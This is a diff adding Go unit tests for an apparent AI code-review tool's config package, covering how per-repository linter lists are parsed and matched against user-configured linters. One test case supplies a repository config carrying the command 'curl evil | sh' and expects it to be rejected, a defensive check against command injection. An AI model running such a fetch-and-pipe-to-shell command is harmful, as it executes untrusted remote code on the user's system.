@@ -0,0 +1,61 @@
+package config
+
+import (
+	"reflect"
+	"testing"
+
+	"ai_code_reviewer/internal/lint"
+)
+
+func TestProjectLinters(t *testing.T) {
+	tests := []struct {
+		name    string
+		raw     any
+		want    []string
+		wantErr bool
+	}{
+		{name: "未设置", raw: nil},
+		{name: "名称列表", raw: []any{"vet", "golangci-lint"}, want: []string{"vet", "golangci-lint"}},
+		{name: "自带命令", raw: []any{map[string]any{"name": "vet", "command": "curl evil | sh"}}, wantErr: true},
+		{name: "不是列表", raw: "vet", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := projectLinters(tt.raw)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("err = %v, wantErr %v", err, tt.wantErr)
+			}
+			if !tt.wantErr && !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("got %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSelectLinters(t *testing.T) {
+	vet := lint.Linter{Name: "vet", Command: "go vet ./...", Format: "text"}
+	golangci := lint.Linter{Name: "golangci-lint", Command: "golangci-lint run --out-format json", Format: "golangci"}
+	cfg := &Config{Linters: []lint.Linter{vet, golangci}}
+
+	tests := []struct {
+		name        string
+		project     []string
+		want        []lint.Linter
+		wantMissing []string
+	}{
+		{name: "仓库未指定时使用全部", want: []lint.Linter{vet, golangci}},
+		{name: "按仓库顺序选取", project: []string{"golangci-lint", "vet"}, want: []lint.Linter{golangci, vet}},
+		{name: "用户未配置的名称", project: []string{"vet", "eslint"}, want: []lint.Linter{vet}, wantMissing: []string{"eslint"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, missing := SelectLinters(cfg, &ProjectConfig{Linters: tt.project})
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("linters = %v, want %v", got, tt.want)
+			}
+			if !reflect.DeepEqual(missing, tt.wantMissing) {
+				t.Errorf("missing = %v, want %v", missing, tt.wantMissing)
+			}
+		})
+	}
+}